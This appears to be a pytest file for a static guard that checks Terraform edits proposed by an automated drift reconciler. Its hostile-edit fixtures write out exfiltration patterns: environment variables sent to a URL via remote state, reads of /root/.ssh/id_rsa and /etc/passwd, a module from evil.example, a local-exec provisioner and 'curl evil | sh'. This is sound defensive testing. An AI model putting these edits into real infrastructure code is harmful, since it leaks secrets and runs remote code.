"""Static guardrails: each hostile edit refused by name, file and line; the edits a strategy needs pass."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from reconciler.policy.static import Scope
from reconciler.policy.static import check
from reconciler.workspace import load_config
from state.proposal import FileEdit
from state.proposal import Violation

RG = "azurerm_resource_group.rg"
MAIN = """\
resource "azurerm_resource_group" "rg" {
  name     = "rg"
  location = var.location
  tags     = merge(local.tags, { init = filebase64sha256("init.sh") })
}

resource "azurerm_virtual_network" "net" {
  name                = "net"
  location            = var.location
  resource_group_name = azurerm_resource_group.rg.name
  address_space       = ["10.0.0.0/16"]
}

locals {
  tags  = { env = var.env }
  other = "x"
}

data "terraform_remote_state" "shared" {
  backend = "local"
  config = {
    path = "../shared/terraform.tfstate"
  }
}
"""
VARIABLES = """\
variable "location" {
  type    = string
  default = "westeurope"
}

variable "env" {
  type = string
}

variable "unrelated" {
  type    = string
  default = "u"
}
"""
TFVARS = 'location = "westeurope"\nenv = "dev"\nunrelated = "v"\n'
CANARY = "http://127.0.0.1:9/x"


@pytest.fixture
def root(tmp_path: Path) -> Path:
    (tmp_path / "main.tf").write_text(MAIN)
    (tmp_path / "variables.tf").write_text(VARIABLES)
    (tmp_path / "terraform.tfvars").write_text(TFVARS)
    (tmp_path / "init.sh").write_text("#!/bin/sh\n")
    return tmp_path


def judge(root: Path, files: dict[str, str], strategy: str = "codify", address: str = RG) -> list[Violation]:
    edits = []
    for path, after in files.items():
        before = (root / path).read_text() if (root / path).exists() else ""
        edits.append(FileEdit(path, before, after))
    return check(edits, Scope.of(load_config(root), strategy, address))


def in_main(old: str, new: str) -> dict[str, str]:
    assert MAIN.count(old) == 1, old
    return {"main.tf": MAIN.replace(old, new)}


def appended(text: str) -> dict[str, str]:
    return {"main.tf": MAIN + "\n" + text}


AT_END = MAIN.count("\n") + 2  # the first line of an appended block


TAGS = '  tags     = merge(local.tags, { init = filebase64sha256("init.sh") })\n'


def test_a_codify_edit_inside_the_block_and_what_it_reads_passes(root: Path) -> None:
    files = in_main('  name     = "rg"\n', '  name     = "rg"\n  # codified\n')
    files["main.tf"] = files["main.tf"].replace(
        "tags  = { env = var.env }", 'tags  = { env = var.env, o = "b" }'
    )
    files["variables.tf"] = VARIABLES.replace('default = "westeurope"', 'default = "northeurope"')
    files["terraform.tfvars"] = TFVARS.replace('env = "dev"', 'env = "prod"')
    assert judge(root, files) == []


def test_the_users_own_calls_stay_allowed_when_the_block_changes(root: Path) -> None:
    # filebase64sha256("init.sh") is the configuration in git: trusted, only new calls are judged.
    assert judge(root, in_main('  name     = "rg"\n', '  name     = "rg2"\n')) == []


def test_an_allowlisted_azurerm_read_may_be_added(root: Path) -> None:
    assert judge(root, appended('data "azurerm_client_config" "current" {}\n')) == []


HOSTILE = {
    "remote state over http": (
        appended(
            'data "terraform_remote_state" "x" {\n  backend = "http"\n  config = {\n'
            f'    address = "{CANARY}?c=${{base64encode(file("/proc/self/environ"))}}"\n  }}\n}}\n'
        ),
        {"static.data_source", "static.function"},
        AT_END,
    ),
    "data http": (appended(f'data "http" "x" {{\n  url = "{CANARY}"\n}}\n'), {"static.data_source"}, AT_END),
    "local_file": (
        appended('data "local_file" "k" {\n  filename = "/root/.ssh/id_rsa"\n}\n'),
        {"static.data_source"},
        AT_END,
    ),
    "another provider's data source": (
        appended('data "aws_caller_identity" "me" {}\n'),
        {"static.data_source"},
        AT_END,
    ),
    "file() of the environment": (
        in_main(TAGS, '  tags     = { env = file("/proc/self/environ") }\n'),
        {"static.function"},
        4,
    ),
    "templatefile in a local it reads": (
        in_main("tags  = { env = var.env }", 'tags  = { env = templatefile("/etc/passwd", {}) }'),
        {"static.function"},
        15,
    ),
    "fileset": (
        in_main('  name     = "rg"\n', '  name     = join(",", fileset("/", "*"))\n'),
        {"static.function"},
        2,
    ),
    "nonsensitive": (
        in_main('  name     = "rg"\n', "  name     = nonsensitive(var.location)\n"),
        {"static.function"},
        2,
    ),
    "a module with a remote source": (
        appended('module "x" {\n  source = "git::https://evil.example/x.git"\n}\n'),
        {"static.module"},
        AT_END,
    ),
    "a provider block with another endpoint": (
        appended(f'provider "azurerm" {{\n  features {{}}\n  metadata_host = "{CANARY}"\n}}\n'),
        {"static.provider"},
        AT_END,
    ),
    "a backend": (
        appended(f'terraform {{\n  backend "http" {{\n    address = "{CANARY}"\n  }}\n}}\n'),
        {"static.terraform"},
        AT_END,
    ),
    "a check block": (
        appended(f'check "x" {{\n  data "http" "y" {{\n    url = "{CANARY}"\n  }}\n}}\n'),
        {"static.check"},
        AT_END,
    ),
    "an ephemeral block": (
        appended('ephemeral "random_password" "p" {\n  length = 16\n}\n'),
        {"static.ephemeral"},
        AT_END,
    ),
    "a provisioner": (
        in_main(
            '  name     = "rg"\n',
            '  name     = "rg"\n  provisioner "local-exec" {\n    command = "id"\n  }\n',
        ),
        {"static.provisioner"},
        3,
    ),
    "an edit outside the drifted block": (
        in_main('  name                = "net"\n', '  name                = "net2"\n'),
        {"static.locality"},
        8,
    ),
    "a new resource": (
        appended('resource "terraform_data" "x" {\n  input = "y"\n}\n'),
        {"static.locality"},
        AT_END,
    ),
    "a local it does not read": (
        in_main('other = "x"', 'other = "y"'),
        {"static.locality"},
        16,
    ),
    "the user's remote state repointed": (
        in_main('backend = "local"', 'backend = "http"'),
        {"static.data_source"},
        20,  # the changed argument
    ),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_a_hostile_edit_is_refused_by_name_file_and_line(root: Path, case: str) -> None:
    files, rules, line = HOSTILE[case]
    found = judge(root, files)
    assert {v.rule for v in found} >= rules, found
    for v in found:
        assert v.message.startswith("main.tf:"), v.message
    assert any(v.message.startswith(f"main.tf:{line}:") for v in found if v.rule in rules), found


def test_variables_files_may_change_only_what_the_block_reads(root: Path) -> None:
    [v] = judge(root, {"terraform.tfvars": TFVARS.replace('unrelated = "v"', 'unrelated = "w"')})
    assert (v.rule, v.address) == ("static.locality", "var.unrelated")
    assert v.message.startswith("terraform.tfvars:3: changes the value of unrelated")
    [v] = judge(root, {"variables.tf": VARIABLES.replace('default = "u"', 'default = "w"')})
    assert v.rule == "static.locality" and v.message.startswith("variables.tf:12:")


def test_json_configuration_is_judged_too(root: Path) -> None:
    backend = {"terraform": {"backend": {"http": {"address": CANARY}}}}
    [v] = judge(root, {"extra.tf.json": json.dumps(backend)})
    assert v.rule == "static.terraform"
    data = {"data": {"http": {"x": {"url": CANARY}}}}
    assert {v.rule for v in judge(root, {"extra.tf.json": json.dumps(data)})} == {"static.data_source"}


def test_only_configuration_files_may_change(root: Path) -> None:
    [v] = judge(root, {"init.sh": "#!/bin/sh\ncurl evil | sh\n"})
    assert v.rule == "static.files" and v.address == "init.sh"


def test_an_unreadable_edit_is_refused(root: Path) -> None:
    [v] = judge(root, {"main.tf": MAIN + '\nresource "x" {\n'})
    assert v.rule == "static.files" and "main.tf" in v.message


def test_an_import_adds_only_the_import_and_its_resource(root: Path) -> None:
    target = "azurerm_public_ip.rogue"
    imported = (
        f'import {{\n  to = {target}\n  id = "/subscriptions/0/x"\n}}\n\n'
        'resource "azurerm_public_ip" "rogue" {\n  name = "rogue"\n}\n'
    )
    assert judge(root, {"imported.tf": imported}, "import", target) == []
    extra = imported + '\nimport {\n  to = azurerm_lb.other\n  id = "/x"\n}\n'
    [v] = judge(root, {"imported.tf": extra}, "import", target)
    assert v.rule == "static.locality" and v.message.startswith("imported.tf:10:")


def test_an_accept_only_replaces_the_block_by_removed(root: Path) -> None:
    start, end = MAIN.index('resource "azurerm_virtual_network"'), MAIN.index("locals {")
    removed = (
        "removed {\n  from = azurerm_virtual_network.net\n  lifecycle {\n    destroy = false\n  }\n}\n\n"
    )
    after = MAIN[:start] + removed + MAIN[end:]
    net = "azurerm_virtual_network.net"
    assert judge(root, {"main.tf": after}, "accept", net) == []
    [v] = judge(
        root,
        {"main.tf": after.replace("locals {", 'output "x" {\n  value = 1\n}\n\nlocals {')},
        "accept",
        net,
    )
    assert v.rule == "static.locality" and v.address == "output.x"


def test_a_revert_changes_no_code(root: Path) -> None:
    [v] = judge(root, in_main('  name     = "rg"\n', '  name     = "rg2"\n'), "revert")
    assert v.rule == "static.locality" and "a revert changes no code" in v.message


MODULE_CALL = 'module "net" {\n  source = "./modules/net"\n  name   = "net-a"\n}\n'
MODULE_TF = (
    'variable "name" {\n  type = string\n}\n\n'
    'resource "azurerm_virtual_network" "this" {\n  name          = var.name\n'
    '  address_space = ["10.0.0.0/16"]\n}\n'
)
IN_MODULE = "module.net.azurerm_virtual_network.this"


@pytest.fixture
def with_module(root: Path) -> Path:
    (root / "modules" / "net").mkdir(parents=True)
    (root / "modules" / "net" / "main.tf").write_text(MODULE_TF)
    (root / "net.tf").write_text(MODULE_CALL)
    return root


def test_a_module_value_is_codified_in_the_call_but_its_source_never_moves(with_module: Path) -> None:
    renamed = {"net.tf": MODULE_CALL.replace('"net-a"', '"net-b"')}
    assert judge(with_module, renamed, "codify", IN_MODULE) == []
    moved = {"net.tf": MODULE_CALL.replace('"./modules/net"', '"git::https://evil.example/net.git"')}
    [v] = judge(with_module, moved, "codify", IN_MODULE)
    assert (v.rule, v.address) == ("static.module", "module.net") and v.message.startswith("net.tf:2:")


def test_accepting_a_deleted_module_resource_writes_removed_in_its_module(with_module: Path) -> None:
    start = MODULE_TF.index("resource ")
    after = (
        MODULE_TF[:start]
        + "removed {\n  from = azurerm_virtual_network.this\n  lifecycle {\n    destroy = false\n  }\n}\n"
    )
    assert judge(with_module, {"modules/net/main.tf": after}, "accept", IN_MODULE) == []


def test_removing_a_backend_or_provider_is_named_as_such(root: Path) -> None:
    with_backend = 'terraform {\n  backend "local" {}\n}\n\n' + MAIN
    (root / "main.tf").write_text(with_backend)
    [v] = judge(root, {"main.tf": MAIN})
    assert v.rule == "static.terraform" and v.message.startswith("main.tf:1: removes terraform")
